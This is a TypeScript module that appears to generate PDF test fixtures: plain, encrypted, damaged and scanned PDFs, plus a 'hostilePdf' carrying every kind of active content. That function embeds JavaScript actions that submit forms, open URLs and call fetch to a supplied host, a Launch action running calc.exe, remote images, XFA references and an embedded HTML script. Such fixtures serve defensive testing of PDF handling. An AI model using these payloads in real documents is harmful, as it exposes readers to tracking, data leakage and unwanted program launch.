// Generated PDF files with text on their pages. Their cross-reference tables are correct.

type Given = {
  /** The content of each PDF page: lines of text, or drawing operators. */
  pages?: (string[] | string)[]
  size?: readonly [width: number, height: number]
  /** Entries of the PDF's catalog, and of each of its pages. */
  catalog?: string
  page?: string
  /** Additional PDF objects, with numbers from 100. */
  objects?: (string | Buffer)[]
  trailer?: string
}

const escaped = (text: string) => text.replace(/[\\()]/g, '\\$&')
const written = (lines: string[]) =>
  `BT /F1 24 Tf 60 770 Td (${escaped(lines[0] ?? '')}) Tj /F2 12 Tf ${lines
    .slice(1)
    .map((line) => `0 -26 Td (${escaped(line)}) Tj`)
    .join(' ')} ET`

/**
 * A PDF file of these pages. `objects`: additional objects, with numbers from 100, to which `catalog` and
 * `page` can refer. Each page uses the first two as its drawings X1 and X2.
 */
export function pdfOf({
  pages = [['Curriculum vitae']],
  size = [595, 842],
  catalog = '',
  page = '',
  objects = [],
  trailer = '',
}: Given = {}): Buffer {
  const parts = new Map<number, Buffer>()
  const put = (id: number, body: string | Buffer) =>
    parts.set(id, Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'))
  const idOf = (index: number) => 1_000 + index * 2
  put(1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`)
  put(
    2,
    `<</Type/Pages/Kids[${pages.map((_, index) => `${idOf(index)} 0 R`).join(' ')}]/Count ${pages.length}>>`,
  )
  // The PDF embeds neither of its fonts, because viewers have them.
  put(3, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica-Bold>>')
  put(4, '<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>')
  objects.forEach((body, index) => put(100 + index, body))
  pages.forEach((drawn, index) => {
    const operators = typeof drawn === 'string' ? drawn : written(drawn)
    const id = idOf(index)
    put(
      id,
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 ${size.join(' ')}]/Resources<</Font<</F1 3 0 R/F2 4 0 R>>/XObject<</X1 100 0 R/X2 101 0 R>>>>/Contents ${id + 1} 0 R${page}>>`,
    )
    put(id + 1, `<</Length ${operators.length}>>stream\n${operators}\nendstream`)
  })
  const ids = [...parts.keys()].sort((left, right) => left - right)
  const pieces = [Buffer.from('%PDF-1.7\n')]
  const places = new Map<number, number>()
  let length = pieces[0]?.length ?? 0
  for (const id of ids) {
    const piece = Buffer.concat([
      Buffer.from(`${id} 0 obj\n`),
      parts.get(id) ?? Buffer.alloc(0),
      Buffer.from('\nendobj\n'),
    ])
    places.set(id, length)
    pieces.push(piece)
    length += piece.length
  }
  const table = ids.map((id) => `${id} 1\n${String(places.get(id)).padStart(10, '0')} 00000 n \n`).join('')
  const end = `xref\n0 1\n0000000000 65535 f \n${table}trailer<</Size ${(ids.at(-1) ?? 0) + 1}/Root 1 0 R${trailer}>>\nstartxref\n${length}\n%%EOF\n`
  return Buffer.concat([...pieces, Buffer.from(end, 'latin1')])
}

const stream = (entries: string, data: string | Buffer) =>
  Buffer.concat([
    Buffer.from(`<<${entries}/Length ${data.length}>>stream\n`),
    Buffer.from(data),
    Buffer.from('\nendstream'),
  ])

/**
 * All active content that a PDF viewer may run: on opening, on viewing a page, on a click, and links to other
 * sites.
 */
export function hostilePdf(elsewhere: string): Buffer {
  const script = `app.alert('it has run'); this.submitForm('${elsewhere}script'); app.launchURL('${elsewhere}launched', true); fetch('${elsewhere}fetch')`
  const run = `<</S/JavaScript/JS(${escaped(script)})>>`
  const everywhere = '/Rect[0 0 595 842]/Border[0 0 0]'
  return pdfOf({
    pages: [['It wants to act', 'and is only read'], '/X1 Do'],
    catalog: `/OpenAction ${run}/AA<</WC ${run}/WS ${run}>>/Names<</JavaScript<</Names[(a) ${run}]>>/EmbeddedFiles<</Names[(a.html) 106 0 R]>>>>/AcroForm<</Fields[104 0 R]/XFA 105 0 R/NeedAppearances true>>/URI<</Base(${elsewhere})>>`,
    page: `/AA<</O ${run}/C ${run}>>/Annots[101 0 R 102 0 R 103 0 R 104 0 R]`,
    objects: [
      // An image in the PDF whose bytes are on another server.
      stream(
        `/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}picture)>>`,
        '',
      ),
      `<</Type/Annot/Subtype/Link${everywhere}/A<</S/URI/URI(${elsewhere}link)>>>>`,
      `<</Type/Annot/Subtype/Link${everywhere}/A<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>>>`,
      `<</Type/Annot/Subtype/Screen${everywhere}/A<</S/Rendition/OP 0/JS(${escaped(script)})>>/AA<</PV ${run}/E ${run}>>>>`,
      `<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(go)${everywhere}/A<</S/SubmitForm/F(${elsewhere}form)>>/AA<</E ${run}/D ${run}/U ${run}>>>>`,
      stream(
        '',
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field><ui><imageEdit/></ui><value><image href="${elsewhere}xfa"/></value></field></subform></template></xdp:xdp>`,
      ),
      '<</Type/Filespec/F(a.html)/EF<</F 107 0 R>>>>',
      stream('/Type/EmbeddedFile/Subtype/text#2Fhtml', `<script>fetch('${elsewhere}embedded')</script>`),
    ],
  })
}

/** A PDF encrypted with a password that no one has. */
export const lockedPdf = () =>
  pdfOf({
    trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>>>/ID[<${'01'.repeat(16)}><${'01'.repeat(16)}>]`,
  })

/** A file that looks like a PDF only by its first and last bytes. */
export const damagedPdf = () => Buffer.from(`%PDF-1.7\n${'no object stands here\n'.repeat(40)}%%EOF\n`)

// An image in JPEG 2000: a black square on white, 16 by 16 pixels.
const JPEG_2000 =
  '/0//UQApAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAABBwEB/1IADAAAAAEAAAQEAAH/XAAEQED/ZAAlAAFDcmVhdGVkIGJ5IE9wZW5KUEVHIHZlcnNpb24gMi41LjT/kAAKAAAAAACEAAH/k9+DmHiZDMZCquOesuwUzdv8rk3WAeQwAAMJCXL/HiAAAwkJSBMAYR5inEfcpoj7lNEhL4wcAAAYRzj/D9FOEfcpokJfGDgAADCOcf4/RThH3KaJCXxg4AAAwjnH+P0U4R9ymiQl8YOAAAMI5x/j9FOEfcpokJf/2Q=='

/**
 * A scanned page without text, as office machines write it. It has an image in JPEG 2000 above, and a black
 * fax image below.
 */
export const scannedPdf = () => {
  const picture = '/Type/XObject/Subtype/Image/Width 16/Height 16/ColorSpace/DeviceGray'
  return pdfOf({
    pages: ['q 300 0 0 300 100 500 cm /X1 Do Q q 300 0 0 300 100 100 cm /X2 Do Q'],
    objects: [
      stream(`${picture}/BitsPerComponent 8/Filter/JPXDecode`, Buffer.from(JPEG_2000, 'base64')),
      stream(
        `${picture}/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 16/Rows 16/BlackIs1 true>>`,
        Buffer.from('ffff001001', 'hex'),
      ),
    ],
  })
}
